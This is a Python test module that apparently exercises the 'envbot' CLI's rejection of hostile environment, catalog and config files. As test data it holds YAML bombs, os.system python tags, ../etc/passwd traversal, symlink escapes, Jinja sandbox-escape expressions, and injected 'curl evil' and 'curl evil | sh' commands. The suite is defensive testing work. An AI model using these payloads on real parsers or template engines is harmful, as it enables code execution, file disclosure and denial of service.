"""Hostile files through the CLI: environment files (``provision``, ``render``, ``validate``), catalog folders
(``catalog validate``, ``render``) and ``envbot.yaml`` (``status``, ``provision``, ``handle-event``). Every case
exits 1 with ``error:`` lines and writes nothing (see ``arena``)."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import yaml

from tests.hostile.arena import Case, cli_case, substitute

CANARY = "canary-file-3c9d0e51ab"
OUTSIDE = "outside-the-catalogs-3b1f"  # text of a file outside the catalogs folder; must never be read into output


def laughs(levels: int = 9, width: int = 9, key: str = "lol") -> str:
    """The billion laughs: ``width ** levels`` values from ``width * (levels - 1)`` aliases (under any alias cap)."""
    first = ", ".join(['"lol"'] * width)
    lines = [f"{key}0: &{key}0 [{first}]"]
    for level in range(1, levels):
        lines.append(f"{key}{level}: &{key}{level} [{', '.join([f'*{key}{level - 1}'] * width)}]")
    return "\n".join(lines) + "\n"


def too_many_aliases(count: int = 101) -> str:
    return "a: &a x\nb: [" + ", ".join(["*a"] * count) + "]\n"


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


# -- environment files -----------------------------------------------------------------------------------------

HEAD = "apiVersion: envbot.io/v1alpha1\nkind: Environment\n"
RDS_OK = "{databaseName: app, vpcId: vpc-0abc}"


def environment(text: str, *, name: str = "dev") -> str:
    return HEAD + f"name: {name}\n" + text


def rds(parameters: str, *, name: str = "dev") -> str:
    return environment(f"catalogs:\n  - name: rds-postgres\n    parameters: {parameters}\n", name=name)


def datadog(api_key: str) -> str:
    return environment(
        "catalogs:\n  - name: datadog-agent\n    parameters:\n      clusterName: dev-cluster\n"
        f"      apiKey: {api_key}\n"
    )


PROVISION = ("provision", "{case}/env.yaml", "--config", "{config}")
RENDER = ("render", "{case}/env.yaml", "--out", "{out}", "--catalogs", "{catalogs}")
VALIDATE = ("validate", "{case}/env.yaml", "--catalogs", "{catalogs}")


def env_case(
    id: str,
    text: str | bytes,
    expected: str,
    *,
    argv: tuple[str, ...] = PROVISION,
    prefix: bool = False,
    forbidden: tuple[str, ...] = (),
) -> Case:
    return cli_case(
        id,
        "environment file",
        argv,
        expected,
        files={"env.yaml": text},
        prefix=prefix,
        forbidden=forbidden,
    )


E = "error: {case}/env.yaml: "
LABEL = (
    "is not a DNS-1123 label (lowercase letters, digits and '-', starting and ending with a letter or digit, at most 63"
    " characters)"
)

ENVIRONMENTS = [
    env_case("env-billion-laughs", laughs() + "kind: Environment\nname: dev\n", E + "holds more than", prefix=True),
    env_case(
        "env-billion-laughs-in-parameter",
        rds("{databaseName: *lol8, vpcId: vpc-0abc}").replace(HEAD, HEAD + laughs()),
        E + "holds more than",
        prefix=True,
        argv=RENDER,
    ),
    env_case(
        "env-too-many-aliases",
        too_many_aliases() + rds(RDS_OK),
        E + "line 2: more than 100 YAML aliases; refusing to expand",
    ),
    env_case(
        "env-nested-too-deep",
        environment(f"description: {nested(100)}\n"),
        E + "line 4: nested more than 64 levels deep",
    ),
    env_case(
        "env-nested-beyond-recursion-limit",
        environment(f"description: {nested(50_000)}\n"),
        E + "line 4: nested more than 64 levels deep",
    ),
    env_case(
        "env-second-document", rds(RDS_OK) + "---\nkind: Secret\n", E + "line 7, column 1: but found another document"
    ),
    env_case(
        "env-python-tag",
        environment("description: !!python/object/apply:os.system ['id']\ncatalogs: []\n"),
        E + "line 4, column 14: could not determine a constructor for the tag",
        prefix=True,
    ),
    env_case("env-duplicate-key", rds(RDS_OK) + "name: prod\n", E + "line 7: duplicate key 'name'"),
    env_case(
        "env-impossible-date",
        rds("{databaseName: app, vpcId: vpc-0abc, engineVersion: !!timestamp 2024-02-30}"),
        E + "line 6, column 69: not a valid timestamp value",
    ),
    env_case(
        "env-huge-integer",
        rds("{databaseName: app, vpcId: vpc-0abc, allocatedStorage: " + "9" * 5000 + "}"),
        E + "line 6, column 72: not a valid int value",
    ),
    env_case(
        "env-huge-hex-integer",
        rds("{databaseName: app, vpcId: vpc-0abc, allocatedStorage: 0x" + "f" * 5000 + "}"),
        E + "line 6, column 72: an integer of more than 1024 bits is not a usable value",
        argv=RENDER,
    ),
    env_case(
        "env-bad-int-tag-not-echoed",
        rds("{databaseName: app, vpcId: vpc-0abc, allocatedStorage: !!int " + CANARY + "}"),
        E + "line 6, column 72: not a valid int value",
        forbidden=(CANARY,),
    ),
    env_case("env-not-utf8", b"kind: Environment\nname: \xff\xfe\n", "error: {case}/env.yaml: is not UTF-8 text"),
    env_case("env-is-a-list", "- kind: Environment\n", E + "must be a mapping with kind: Environment, got a list"),
    env_case("env-name-64", rds(RDS_OK, name="e" * 64), E + "name: is 64 characters long; at most 63 are allowed"),
    env_case(
        "env-namespace-64",
        rds(RDS_OK) + f"namespace: {'n' * 64}\n",
        E + "namespace: is 64 characters long; at most 63 are allowed",
    ),
    env_case("env-name-traversal", rds(RDS_OK, name="'../../registry'"), E + f"name: '../../registry' {LABEL}"),
    env_case("env-name-cyrillic", rds(RDS_OK, name="d\u0435v"), E + f"name: 'd\u0435v' {LABEL}"),
    env_case("env-name-jinja", rds(RDS_OK, name="'{{ 7*7 }}'"), E + f"name: '{{{{ 7*7 }}}}' {LABEL}"),
    env_case("env-name-newline", rds(RDS_OK, name='"dev\\n"'), E + f"name: 'dev\\n' {LABEL}"),
    env_case(
        "env-namespace-traversal",
        rds(RDS_OK) + "namespace: ../kube-system\n",
        E + f"namespace: '../kube-system' {LABEL}",
    ),
    env_case(
        "env-cluster-traversal",
        rds(RDS_OK) + "cluster: ../../in-cluster\n",
        E + "cluster: '../../in-cluster' is not a DNS-1123 subdomain (lowercase letters, digits, '-' and '.', each"
        " dot-separated part starting and ending with a letter or digit, at most 253 characters)",
    ),
    env_case(
        "env-catalog-traversal",
        environment("catalogs:\n  - name: ../rds-postgres\n"),
        E + f"catalogs[0].name: '../rds-postgres' {LABEL}",
    ),
    env_case(
        "env-origin-branch-traversal",
        rds(RDS_OK) + "origin: {kind: branch, branch: ../../main}\n",
        E + "origin.branch: '../../main' is not a branch name",
    ),
    env_case(
        "env-origin-repository-traversal",
        rds(RDS_OK) + "origin: {kind: manual, repository: ../../etc}\n",
        E + "origin.repository: '../../etc' is not a GitHub owner/name",
    ),
    env_case(
        "env-owner-newline",
        rds(RDS_OK) + 'owner: "alice\\n::error::forged"\n',
        E + "owner: must be a one-line string",
    ),
    env_case(
        "env-description-huge",
        rds(RDS_OK) + f"description: {'d' * 200_000}\n",
        E + "description: is 200000 characters long; at most 1000 are allowed",
    ),
    env_case(
        "env-ttl-forever",
        rds(RDS_OK) + "ttl: forever\n",
        E + "ttl: 'forever' is not a duration such as 30m, 72h, 7d or 1w2d",
    ),
    env_case(
        "env-parameter-key-jinja",
        rds("{databaseName: app, vpcId: vpc-0abc, '{{ 7*7 }}': 1}"),
        "error: environment dev: catalog rds-postgres: parameter {{ 7*7 }}: the catalog has no such parameter",
        prefix=True,
    ),
    env_case(
        "env-value-jinja",
        rds("{databaseName: '{{ 7*7 }}', vpcId: vpc-0abc}"),
        "error: environment dev: catalog rds-postgres: parameter databaseName: '{{ 7*7 }}' does not match the"
        " pattern ^[a-z][a-z0-9_]{0,62}$",
        argv=RENDER,
    ),
    env_case(
        "env-value-document-separator",
        rds('{databaseName: "app\\n---\\nkind: Secret", vpcId: vpc-0abc}'),
        "error: environment dev: catalog rds-postgres: parameter databaseName: 'app\\n---\\nkind: Secret' does not"
        " match the pattern ^[a-z][a-z0-9_]{0,62}$",
        argv=RENDER,
    ),
    env_case(
        "env-value-newline-in-vpc",
        rds('{databaseName: app, vpcId: "vpc-0abc\\nkind: Secret"}'),
        "error: environment dev: catalog rds-postgres: parameter vpcId: 'vpc-0abc\\nkind: Secret' does not match"
        " the pattern ^vpc-[0-9a-f]+$",
    ),
    env_case(
        "env-value-long",
        rds("{databaseName: " + "a" * 100_000 + ", vpcId: vpc-0abc}"),
        "error: environment dev: catalog rds-postgres: parameter databaseName: '" + "a" * 56 + "...' does not"
        " match the pattern ^[a-z][a-z0-9_]{0,62}$",
    ),
    env_case(
        "env-value-mapping",
        rds("{databaseName: {value: x}, vpcId: vpc-0abc}"),
        "error: environment dev: catalog rds-postgres: parameter databaseName: a mapping value must be"
        " {fromOutput: <catalog>.<output>} or {fromSecret: {...}}",
    ),
    env_case(
        "env-literal-secret",
        datadog(CANARY),
        "error: environment dev: catalog datadog-agent: parameter apiKey: is a secret: give a reference"
        " {fromSecret: {backend, path, key}}, never the value itself",
        forbidden=(CANARY,),
    ),
    env_case(
        "env-literal-secret-in-value-field",
        datadog("{fromSecret: {backend: vault, path: secret/data/dd, key: api-key, value: " + CANARY + "}}"),
        "error: environment dev: catalog datadog-agent: parameter apiKey: fromSecret has unknown field 'value'"
        " (known: backend, env, key, path)",
        forbidden=(CANARY,),
    ),
    env_case(
        "env-literal-secret-as-list",
        datadog(f"[{CANARY}]"),
        "error: environment dev: catalog datadog-agent: parameter apiKey: is a secret: give a reference"
        " {fromSecret: {backend, path, key}}, never the value itself",
        forbidden=(CANARY,),
        argv=RENDER,
    ),
    env_case(
        "env-secret-key-traversal",
        datadog("{fromSecret: {key: ../../etc/passwd}}"),
        "error: environment dev: catalog datadog-agent: parameter apiKey: fromSecret.key '../../etc/passwd' may"
        " hold only letters, digits, '-', '_' and '.'",
    ),
    env_case(
        "env-secret-path-newline",
        datadog('{fromSecret: {path: "secret/data\\nkind: Secret"}}'),
        "error: environment dev: catalog datadog-agent: parameter apiKey: fromSecret.path must be a one-line string",
    ),
    env_case(
        "env-secret-backend-traversal",
        datadog("{fromSecret: {backend: ../vault}}"),
        "error: environment dev: catalog datadog-agent: parameter apiKey: fromSecret.backend '../vault' "
        + LABEL
        + "; name one such as vault or kubernetes",
    ),
    env_case(
        "env-secret-env-injection",
        datadog('{fromSecret: {env: "DD_API_KEY; curl evil"}}'),
        "error: environment dev: catalog datadog-agent: parameter apiKey: fromSecret.env 'DD_API_KEY; curl evil'"
        " is not an environment variable name",
    ),
    env_case(
        "env-sensitive-output",
        environment(
            "catalogs:\n  - name: rds-postgres\n    parameters: " + RDS_OK + "\n  - name: sample-app\n"
            "    parameters: {databaseEndpoint: {fromOutput: rds-postgres.masterPassword}}\n"
        ),
        "error: environment dev: catalog sample-app: parameter databaseEndpoint: fromOutput"
        " rds-postgres.masterPassword is a sensitive output; envbot never copies it (the app reads it from the"
        " Workspace's connection Secret)",
    ),
    env_case(
        "env-output-traversal",
        environment("catalogs:\n  - name: sample-app\n    parameters: {databaseEndpoint: {fromOutput: ../x.y}}\n"),
        "error: environment dev: catalog sample-app: parameter databaseEndpoint: fromOutput takes"
        " '<catalog>.<output>', for example rds-postgres.endpoint",
    ),
    env_case(
        "env-unknown-catalog-look-alike",
        environment("catalogs:\n  - name: rds-p\u043estgres\n"),
        E + "catalogs[0].name: 'rds-p\u043estgres' " + LABEL,
    ),
    cli_case(
        "env-file-is-a-folder",
        "environment file",
        ("validate", "{case}", "--catalogs", "{catalogs}"),
        "error: Invalid value for 'ENV_FILE': File '{case}' is a directory.",
    ),
    cli_case(
        "env-file-missing",
        "environment file",
        ("provision", "{case}/../../../../nowhere/env.yaml", "--config", "{config}"),
        "error: {case}/../../../../nowhere/env.yaml: environment file not found",
    ),
]

# -- catalog folders -------------------------------------------------------------------------------------------

TINY = (
    "apiVersion: envbot.io/v1alpha1\nkind: Catalog\nname: tiny\ntype: yaml\nversion: 1.0.0\n"
    "parameters:\n  replicas: {type: integer, default: 1}\n"
)
TEMPLATE = "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ environment.name }}-tiny\ndata:\n  v: %s\n"
C = "error: {case}/catalogs/tiny/"
RENDER_TINY = ("render", "{case}/env.yaml", "--out", "{out}", "--catalogs", "{case}/catalogs")
TINY_ENV = environment("catalogs:\n  - name: tiny\n")


def catalog_case(
    id: str,
    expected: str,
    *,
    catalog: str = TINY,
    templates: dict[str, str | bytes] | None = None,
    extra: dict[str, str | bytes] | None = None,
    setup: Callable[[Path], None] | None = None,
    render: bool = False,
    prefix: bool = False,
) -> Case:
    files: dict[str, str | bytes] = {"catalogs/tiny/catalog.yaml": catalog}
    chosen = {"app.yaml": TEMPLATE % "'{{ params.replicas }}'"} if templates is None else templates
    files.update({f"catalogs/tiny/templates/{name}": body for name, body in chosen.items()})
    files.update(extra or {})
    if render:
        files["env.yaml"] = TINY_ENV
    argv = RENDER_TINY if render else ("catalog", "validate", "--catalogs", "{case}/catalogs")
    return cli_case(id, "catalog", argv, expected, files=files, setup=setup, prefix=prefix)


def sandbox(id: str, expression: str, message: str, *, render: bool = False, raw: bool = False) -> Case:
    body = expression if raw else TEMPLATE % expression
    return catalog_case(
        id,
        f"error: catalogs/tiny/templates/app.yaml: {message}",
        templates={"app.yaml": body},
        render=render,
    )


def _link(name: str, target: str) -> Callable[[Path], None]:
    def setup(folder: Path) -> None:
        outside = folder / "outside"
        outside.mkdir(exist_ok=True)
        (outside / "catalog.yaml").write_text(TINY.replace("name: tiny", "name: stolen"), encoding="utf-8")
        (outside / "templates").mkdir(exist_ok=True)
        (outside / "templates" / "app.yaml").write_text(f"kind: ConfigMap\ndata: {{v: {OUTSIDE}}}\n", encoding="utf-8")
        (outside / "secret.txt").write_text(OUTSIDE, encoding="utf-8")
        link = folder / "catalogs" / name
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(substitute(target, {"case": str(folder)}))

    return setup


def _many_files(folder: Path) -> None:
    notes = folder / "catalogs" / "tiny" / "notes"
    notes.mkdir(parents=True)
    for number in range(501):
        (notes / f"{number}.txt").write_text("x", encoding="utf-8")


UNSAFE = "refused by the template sandbox: access to attribute"

CATALOGS = [
    catalog_case(
        "catalog-billion-laughs",
        C + "catalog.yaml: holds more than",
        catalog=TINY + laughs(),
        prefix=True,
    ),
    catalog_case(
        "catalog-too-many-aliases",
        C + "catalog.yaml: line 2: more than 100 YAML aliases; refusing to expand",
        catalog=too_many_aliases() + TINY.replace("apiVersion", "apiVersionX", 0),
        prefix=True,
    ),
    catalog_case(
        "catalog-values-billion-laughs",
        C + "values.yaml: holds more than",
        extra={"catalogs/tiny/values.yaml": laughs()},
        prefix=True,
    ),
    catalog_case(
        "catalog-huge-template",
        C + f"templates/big.yaml: is {1024 * 1024 + 1} bytes; catalog files may be at most {1024 * 1024}",
        templates={"app.yaml": TEMPLATE % "x", "big.yaml": "#" * (1024 * 1024 + 1)},
    ),
    catalog_case(
        "catalog-huge-unused-file",
        C + f"README.md: is {1024 * 1024 + 1} bytes; catalog files may be at most {1024 * 1024}",
        extra={"catalogs/tiny/README.md": "#" * (1024 * 1024 + 1)},
    ),
    catalog_case("catalog-too-many-files", "error: {case}/catalogs/tiny: holds more than 500 files", setup=_many_files),
    catalog_case(
        "catalog-symlinked-template-outside",
        C + "templates/leak.yaml: is a symbolic link pointing outside the catalog folder",
        setup=_link("tiny/templates/leak.yaml", "{case}/outside/secret.txt"),
    ),
    catalog_case(
        "catalog-symlinked-template-absolute",
        C + "templates/passwd.yaml: is a symbolic link pointing outside the catalog folder",
        setup=_link("tiny/templates/passwd.yaml", "/etc/passwd"),
    ),
    catalog_case(
        "catalog-symlinked-folder-outside",
        C + "templates/linked: is a symbolic link pointing outside the catalog folder",
        setup=_link("tiny/templates/linked", "{case}/outside/templates"),
    ),
    catalog_case(
        "catalog-symlinked-catalog-outside",
        "error: {case}/catalogs/stolen: is a symbolic link pointing outside the catalogs folder",
        setup=_link("stolen", "{case}/outside"),
    ),
    catalog_case(
        "catalog-symlinked-to-sibling-file",
        C + "templates/other.yaml: is a symbolic link pointing outside the catalog folder",
        setup=_link("tiny/templates/other.yaml", "{case}/catalogs/tiny/../../outside/templates/app.yaml"),
    ),
    catalog_case(
        "catalog-templates-folder-traversal",
        C + "catalog.yaml: templates: must be a folder inside the catalog",
        catalog=TINY + "templates: ../../outside/templates\n",
    ),
    catalog_case(
        "catalog-templates-folder-absolute",
        C + "catalog.yaml: templates: must be a folder inside the catalog",
        catalog=TINY + "templates: /etc\n",
    ),
    catalog_case(
        "catalog-name-traversal",
        C + f"catalog.yaml: name: '../tiny' {LABEL}",
        catalog=TINY.replace("name: tiny", "name: ../tiny"),
    ),
    catalog_case(
        "catalog-unknown-key",
        C + "catalog.yaml: hooks: unknown key (known: apiVersion, description, kind, name, outputs, parameters,"
        " templates, terraform, type, version)",
        catalog=TINY + "hooks: {preRender: 'curl evil | sh'}\n",
    ),
    catalog_case(
        "catalog-python-tag",
        C + "catalog.yaml: line 8, column 14: could not determine a constructor for the tag",
        catalog=TINY + "description: !!python/name:os.system\n",
        prefix=True,
    ),
    catalog_case(
        "catalog-template-not-utf8",
        C + "templates/app.yaml: is not UTF-8 text",
        templates={"app.yaml": b"kind: ConfigMap\ndata: {v: \xff}\n"},
    ),
    catalog_case(
        "catalog-template-syntax",
        C + "templates/app.yaml: line 1: Encountered unknown tag 'exec'.",
        templates={"app.yaml": "{% exec 'id' %}\n"},
        prefix=True,
    ),
    sandbox(
        "sandbox-mro",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        f"{UNSAFE} '__class__' of 'str' object is unsafe.",
    ),
    sandbox(
        "sandbox-format-string",
        "{{ '{0.__class__.__init__.__globals__}'.format(params) }}",
        f"{UNSAFE} '__init__' of 'StrictUndefined' object is unsafe.",
    ),
    sandbox(
        "sandbox-self-context",
        "{{ self._TemplateReference__context }}",
        f"{UNSAFE} '_TemplateReference__context' of 'TemplateReference' object is unsafe.",
    ),
    sandbox(
        "sandbox-namespace-globals",
        "{{ namespace.__init__.__globals__ }}",
        f"{UNSAFE} '__init__' of 'type' object is unsafe.",
    ),
    sandbox(
        "sandbox-mutate-params",
        "{{ params.__setitem__('replicas', 0) }}",
        f"{UNSAFE} '__setitem__' of 'dict' object is unsafe.",
    ),
    sandbox(
        "sandbox-list-append",
        "{{ labels.values() | list | attr('append') }}",
        f"{UNSAFE} 'append' of 'list' object is unsafe.",
        render=True,
    ),
    sandbox(
        "sandbox-include-traversal",
        "{% include '../../../../etc/passwd' %}",
        "templates cannot include or import other files (../../../../etc/passwd)",
    ),
    sandbox(
        "sandbox-import",
        "{% import 'catalog.yaml' as c %}",
        "templates cannot include or import other files (catalog.yaml)",
    ),
    sandbox(
        "sandbox-extends",
        "{% extends '/etc/passwd' %}",
        "templates cannot include or import other files (/etc/passwd)",
        raw=True,
    ),
    sandbox(
        "sandbox-huge-output",
        "{% for i in range(99999) %}{{ 'x' * 99 }}{% endfor %}",
        "renders to more than 2097152 characters",
        raw=True,
        render=True,
    ),
    sandbox(
        "sandbox-huge-range",
        "{% for i in range(10**9) %}x{% endfor %}",
        "OverflowError: Range too big. The sandbox blocks ranges larger than MAX_RANGE (100000).",
    ),
    sandbox(
        "sandbox-power",
        "{{ 10 ** 100 }}",
        "refused by the template sandbox: exponents above 64 are not allowed",
    ),
    sandbox(
        "sandbox-chained-powers",
        "{{ ((10 ** 64) ** 64) ** 64 }}",
        "refused by the template sandbox: integers of more than 1024 bits are not allowed",
    ),
    sandbox(
        "sandbox-repeated-squaring",
        "{% set ns = namespace(x=10) %}{% for i in range(40) %}{% set ns.x = ns.x * ns.x %}{% endfor %}"
        + TEMPLATE % "{{ ns.x }}",
        "refused by the template sandbox: integers of more than 1024 bits are not allowed",
        raw=True,
        render=True,
    ),
    catalog_case(
        "sandbox-huge-literal",
        C + "templates/app.yaml: cannot be parsed: Exceeds the limit (4300 digits) for integer string conversion:"
        " value has 5000 digits",
        templates={"app.yaml": TEMPLATE % ("{{ " + "9" * 5000 + " }}")},
    ),
    catalog_case(
        "sandbox-nested-expression",
        C + "templates/app.yaml: nested too deeply to parse",
        templates={"app.yaml": TEMPLATE % ("{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}")},
    ),
    sandbox(
        "sandbox-undefined-env-var",
        "{{ env.ENVBOT_GITOPS_TOKEN }}",
        "'env' is undefined",
    ),
]

# -- envbot.yaml -----------------------------------------------------------------------------------------------

BASE_CONFIG = {
    "platform": {"repository": "{world}/platform.git"},
    "apps": {"repository": "{world}/apps.git"},
    "catalogs": "{catalogs}",
    "cluster": {"type": "simulated", "path": "{case}/cluster.json"},
}


def config(**changes: object) -> str:
    document: dict[str, object] = {
        key: dict(value) if isinstance(value, dict) else value for key, value in BASE_CONFIG.items()
    }
    for dotted, value in changes.items():
        section, _, key = dotted.partition("__")
        if key:
            target = document.setdefault(section, {})
            assert isinstance(target, dict)
            target[key] = value
        else:
            document[section] = value
    return yaml.safe_dump(document, sort_keys=False)


STATUS = ("status", "--config", "{case}/envbot.yaml")
K = "error: {case}/envbot.yaml: "
TOP_KEYS = "agent, apps, catalogs, cluster, events, github, merge, platform, render, timeouts"
EVENT_KEYS = (
    "branches, defaultTemplate, destroyOnCloseUnmerged, foreignCommands, namePrefix, permission, provisionLabel,"
    " repository"
)


def config_case(id: str, text: str, expected: str, *, argv: tuple[str, ...] = STATUS, prefix: bool = False) -> Case:
    return cli_case(
        id,
        "config",
        argv,
        expected,
        files={"envbot.yaml": text, "env.yaml": rds(RDS_OK)},
        prefix=prefix,
        forbidden=(CANARY,),
    )


CONFIGS = [
    config_case(
        "config-unknown-top-key",
        config(plattform={"repository": "x"}),
        K + f"plattform: unknown key (did you mean platform?) (known: {TOP_KEYS})",
    ),
    config_case(
        "config-token-in-file",
        config(platform__token=CANARY),
        K + "platform.token: unknown key (known: baseBranch, repository)",
        argv=("provision", "{case}/env.yaml", "--config", "{case}/envbot.yaml"),
    ),
    config_case(
        "config-unknown-events-key",
        config(events={"repository": "acme/app", "allowForks": True}),
        K + f"events.allowForks: unknown key (known: {EVENT_KEYS})",
    ),
    config_case(
        "config-unknown-cluster-key",
        config(cluster__token=CANARY),
        K + "cluster.token: unknown key (known: argocdNamespace, context, kubeconfig, path, type)",
    ),
    config_case(
        "config-cluster-type",
        config(cluster__type="docker"),
        K + "cluster.type: must be kubernetes, static or simulated, got 'docker'",
    ),
    config_case(
        "config-wrong-type", config(github={"apiUrl": 5}), K + "github.apiUrl: must be a string, got the integer 5"
    ),
    config_case("config-is-a-list", "- platform\n", K + "must be a mapping, got a list"),
    config_case("config-billion-laughs", laughs() + config(), K + "holds more than", prefix=True),
    config_case("config-duplicate-key", config() + "catalogs: /\n", K + "line 9: duplicate key 'catalogs'"),
    config_case(
        "config-python-tag",
        "platform: !!python/object/apply:os.system [id]\n",
        K + "line 1, column 11: could not determine a constructor",
        prefix=True,
    ),
    config_case(
        "config-merge-method",
        config(merge={"method": "rebase"}),
        K + "merge.method: must be merge or squash, got 'rebase'",
    ),
    config_case(
        "config-timeout-words",
        config(timeouts={"wait": "forever"}),
        K + "timeouts.wait: 'forever' is not a duration such as 30s, 10m or 2h",
    ),
    config_case(
        "config-permission-none",
        config(events={"permission": "none"}),
        K + "events.permission: none would let anyone run commands; use read or more",
    ),
    config_case(
        "config-prefix-traversal",
        config(events={"namePrefix": "../"}),
        K + "events.namePrefix: '../' must be lowercase letters, digits and '-', starting with a letter or digit",
    ),
    config_case(
        "config-events-repository-traversal",
        config(events={"repository": "../../etc"}),
        K + "events.repository: '../../etc' is not a GitHub owner/name",
    ),
    config_case(
        "config-foreign-command-slash",
        config(events={"foreignCommands": ["/lgtm"]}),
        K + "events.foreignCommands: must be a list of command names without the slash, such as lgtm",
    ),
    config_case(
        "config-branch-rule-extra-key",
        config(events={"branches": [{"pattern": "*", "template": "t.yaml", "permission": "read"}]}),
        K + "events.branches[0].permission: unknown key (known: pattern, template)",
    ),
    config_case(
        "config-template-newline",
        config(events={"defaultTemplate": "envs/a.yaml\n../../etc/passwd"}),
        K + "events.defaultTemplate: 'envs/a.yaml\\n../../etc/passwd' is not a one-line file path",
    ),
    config_case(
        "config-missing-repository",
        config(apps={}),
        K + "apps.repository: is missing: give a GitHub owner/name or a local path",
    ),
    config_case(
        "config-workspace-api",
        config(render={"workspaceApi": "tf.upbound.io/v2"}),
        K + "render.workspaceApi: must be tf.upbound.io/v1beta1 or tf.m.upbound.io/v1beta1, got 'tf.upbound.io/v2'",
    ),
    config_case(
        "config-repository-nowhere",
        config(platform={"repository": "{case}/../nowhere.git"}),
        "error: {case}/../nowhere.git: repository not found (a local path must name an existing git repository)",
    ),
    cli_case(
        "config-missing",
        "config",
        STATUS,
        K + "config file not found (write one with platform.repository and apps.repository)",
    ),
    config_case(
        "config-handle-event-unknown-key",
        config(events={"repository": "acme/app", "commands": {"destroy": "read"}}),
        K + f"events.commands: unknown key (known: {EVENT_KEYS})",
        argv=(
            "handle-event",
            "--event-name",
            "schedule",
            "--event-path",
            "{case}/env.yaml",
            "--config",
            "{case}/envbot.yaml",
        ),
    ),
]

CASES: list[Case] = [
    *ENVIRONMENTS,
    *[replace(case, category="catalog") for case in CATALOGS],
    *CONFIGS,
]
